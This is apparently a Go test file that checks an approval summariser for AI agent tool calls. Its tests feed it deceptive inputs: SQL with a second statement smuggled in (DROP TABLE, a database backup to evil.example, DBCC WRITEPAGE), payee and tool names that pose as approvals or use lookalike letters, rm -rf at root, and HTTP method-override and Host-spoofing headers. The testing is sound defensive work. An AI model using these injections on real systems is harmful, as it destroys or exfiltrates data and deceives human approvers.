package headline_test

import (
	"strings"
	"testing"

	"countersign/models/headline"
)

// Some databases end a number where a letter begins, so a verb behind it begins another
// statement; and some have statements that are in no list here (I13).
func TestNoSecondStatementHidesBehindANumberOrAnUnknownVerbI13(t *testing.T) {
	t.Parallel()
	for _, query := range []string{
		"UPDATE a SET x = 1.DROP TABLE b",
		"UPDATE a SET x = 1DROP TABLE b",
		"UPDATE a SET x = 1e0DROP TABLE b",
		"UPDATE a SET x = 1 BACKUP DATABASE prod TO DISK = '//evil.example/x'",
		"UPDATE a SET x = 1 DENY CONTROL ON b TO c",
		"UPDATE a SET x = 1 RECONFIGURE",
		"UPDATE a SET x = 1 WRITETEXT b.c @p 'x'",
		"DELETE FROM a WHERE id = 1 DBCC WRITEPAGE (b, 1, 1, 0, 1, 0x41)",
		"DELETE FROM a IF 1=1 SET IDENTITY_INSERT b ON",
	} {
		if got := headline.Of(call("sql", `{"query":"`+query+`"}`)).Text(); !strings.HasPrefix(got, "Run SQL") {
			t.Errorf("%s: %s", query, got)
		}
	}
}

// A payee that is a sentence is quoted: without marks it reads as what we say (I13).
func TestAPayeeThatIsASentenceIsQuotedI13(t *testing.T) {
	t.Parallel()
	for _, payee := range []string{"Bob. Approved by Ann", "Bob - already paid", "Bob - approved", "Bob. Safe."} {
		want := `Pay 5 EUR to "` + payee + `"`
		if got := headline.Of(call("pay", `{"amount":5,"currency":"EUR","to":"`+payee+`"}`)).Text(); got != want {
			t.Errorf("got %s, want %s", got, want)
		}
	}
}

// A tool's name that reads as a verb of ours, or as a decision, is quoted, with letters that
// only look like those of the verb too (I13).
func TestAToolsNameThatReadsAsAVerbOrADecisionIsQuotedI13(t *testing.T) {
	t.Parallel()
	for _, tool := range []string{"Ƥay.240.00.EUR.to.Bob", "Páy", "Dełete", "Approved.by.Ann", "Approve", "Rejected:low.risk", "Transfer:5.00.EUR"} {
		if got := headline.Of(call(tool, `{}`)).Text(); !strings.HasPrefix(got, `"`) {
			t.Errorf("%s: %s", tool, got)
		}
	}
}

// Where a command runs, on which database, and to which account money goes decides what is
// done: two requests that differ in it never have one headline (I6).
func TestWhereItIsDoneIsPartOfTheHeadlineI6(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, tool, one, two string }{
		{"the folder", "Bash", `{"command":"rm -rf build","cwd":"/srv/shop"}`, `{"command":"rm -rf build","cwd":"/"}`},
		{"the folder of a push", "Bash", `{"command":"git push -f origin main","cwd":"/srv/a"}`, `{"command":"git push -f origin main","cwd":"/srv/b"}`},
		{"the database", "sql", `{"query":"TRUNCATE a","database":"test"}`, `{"query":"TRUNCATE a","database":"prod"}`},
		{"the parameters", "sql", `{"query":"DELETE FROM a WHERE id < ?","params":[1]}`, `{"query":"DELETE FROM a WHERE id < ?","params":[999999]}`},
		{"the account", "pay", `{"amount":5,"currency":"EUR","to":"Bob","iban":"DE89370400440532013000"}`, `{"amount":5,"currency":"EUR","to":"Bob","iban":"GB29NWBK60161331926819"}`},
	} {
		if one, two := headline.Of(call(c.tool, c.one)).Text(), headline.Of(call(c.tool, c.two)).Text(); one == two {
			t.Errorf("%s: both are %s", c.name, one)
		}
	}
}

// A header that makes another method or another host of a request takes its verb away (I13).
func TestAHeaderThatOverridesTheMethodTakesTheVerbAwayI13(t *testing.T) {
	t.Parallel()
	for _, header := range []string{`"X-HTTP-Method-Override":"DELETE"`, `"x-http-method":"DELETE"`, `"X-Method-Override":"DELETE"`, `"Host":"evil.example"`} {
		got := headline.Of(call("http.post", `{"url":"https://hooks.example.net/x","headers":{`+header+`}}`)).Text()
		if strings.HasPrefix(got, "Post to") {
			t.Errorf("%s: %s", header, got)
		}
	}
}
